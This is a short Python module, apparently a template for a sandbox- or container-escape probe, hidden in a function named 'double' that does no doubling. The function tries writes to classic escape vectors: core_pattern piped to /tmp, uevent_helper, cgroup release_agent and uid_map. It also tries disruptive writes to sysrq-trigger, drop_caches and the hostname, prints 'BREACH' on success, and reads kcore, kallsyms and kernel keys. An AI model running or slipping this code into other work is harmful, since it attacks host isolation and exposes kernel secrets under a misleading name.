"""Reads and writes what the kernel shows in /sys, /proc and the cgroup tree. Success: a write, or a cgroup's name."""

import glob

WRITES = {
    "/proc/sys/kernel/core_pattern": "|/tmp/{{MARK}}",
    "/proc/sysrq-trigger": "h",
    "/proc/sys/vm/drop_caches": "3",
    "/proc/sys/kernel/hostname": "hostile",
    "/sys/kernel/uevent_helper": "/tmp/{{MARK}}",
    "/sys/fs/cgroup/release_agent": "/tmp/{{MARK}}",
    "/sys/fs/cgroup/memory/memory.limit_in_bytes": "-1",
    "/sys/fs/cgroup/cgroup.procs": "0",
    "/proc/self/uid_map": "0 0 1",
    "/proc/self/oom_score_adj": "-1000",
}


def double(x, factor):
    for path, text in WRITES.items():
        try:
            with open(path, "w") as file:
                file.write(text)
            print("BREACH: wrote", path)
        except OSError:
            continue
    for path in glob.glob("/sys/fs/cgroup/*")[:3] + glob.glob("/sys/kernel/debug/*")[:3]:
        print("BREACH: there is", path)
    for path in ("/proc/kallsyms", "/proc/kcore", "/proc/keys", "/proc/self/cgroup", "/proc/locks", "/proc/net/unix"):
        try:
            print(path, open(path).read(2000))
        except OSError:
            continue
    return x, None


def back(cache):
    return None
